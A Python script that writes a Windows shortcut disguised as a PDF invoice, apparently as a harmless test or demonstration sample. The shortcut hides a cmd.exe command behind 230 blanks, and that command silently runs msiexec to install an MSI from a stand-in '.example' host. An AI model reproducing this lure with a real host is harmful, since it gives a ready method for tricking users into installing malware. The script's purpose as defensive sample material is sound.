#!/usr/bin/env python3
# SPDX-License-Identifier: GPL-2.0-or-later
"""Writes the sample: a shortcut that looks like a PDF and behaves like the first step of an attack.

    make-sample.py OUTPUT

It is harmless anywhere. What runs leaves one text file in the user's folder and asks for an
installer at a name below `.example`, which RFC 2606 reserves: it leads nowhere. What it shows is
how such shortcuts hide: a document's name and icon, and a command behind so many blanks that the
properties dialogue does not show it.
"""
import struct
import sys

TARGET = r"C:\windows\system32\cmd.exe"
ICON = r"C:\Program Files\Adobe\Acrobat DC\Acrobat\Acrobat.exe"
COMMAND = (r"/c echo genkan sample: this ran > %USERPROFILE%\genkan-sample.txt"
           r" & msiexec /q /i http://updates.genkan-sample.example/payload.msi")
BLANKS = 230
DESCRIPTION = "Invoice 2026-1107 (PDF)"

CLASS_ID = bytes.fromhex("0114020000000000c000000000000046")
HAS_LINK_INFO, HAS_NAME, HAS_ARGUMENTS, HAS_ICON, IS_UNICODE, HAS_EXP_STRING = (
    0x02, 0x04, 0x20, 0x40, 0x80, 0x200)
SHOW_MINIMISED = 7
ENVIRONMENT, ENVIRONMENT_SIZE = 0xA0000001, 0x314
MADE = 133_769_664_000_000_000  # FILETIME of 2024-11-25


def header():
    flags = HAS_LINK_INFO | HAS_NAME | HAS_ARGUMENTS | HAS_ICON | IS_UNICODE | HAS_EXP_STRING
    return (struct.pack("<I", 0x4C) + CLASS_ID + struct.pack("<II", flags, 0x20)
            + struct.pack("<QQQ", MADE, MADE, MADE)
            + struct.pack("<IiIHHII", 0, 0, SHOW_MINIMISED, 0, 0, 0, 0))


def link_info(path):
    """A local path on a fixed volume: what Wine resolves the target by."""
    label = b"\0"
    volume = struct.pack("<IIII", 0x10 + len(label), 3, 0x1234, 0x10) + label
    base, suffix = path.encode("cp1252") + b"\0", b"\0"
    size = 0x1C
    at_base = size + len(volume)
    at_suffix = at_base + len(base)
    return struct.pack("<7I", at_suffix + len(suffix), size, 1, size, at_base, 0, at_suffix) + volume + base + suffix


def string(text):
    return struct.pack("<H", len(text)) + text.encode("utf-16-le")


def environment(path):
    return (struct.pack("<II", ENVIRONMENT_SIZE, ENVIRONMENT) + path.encode("cp1252").ljust(260, b"\0")
            + path.encode("utf-16-le").ljust(520, b"\0"))


def sample():
    return (header() + link_info(TARGET) + string(DESCRIPTION) + string(" " * BLANKS + COMMAND)
            + string(ICON) + environment(TARGET) + struct.pack("<I", 0))


if __name__ == "__main__":
    with open(sys.argv[1], "wb") as out:
        out.write(sample())
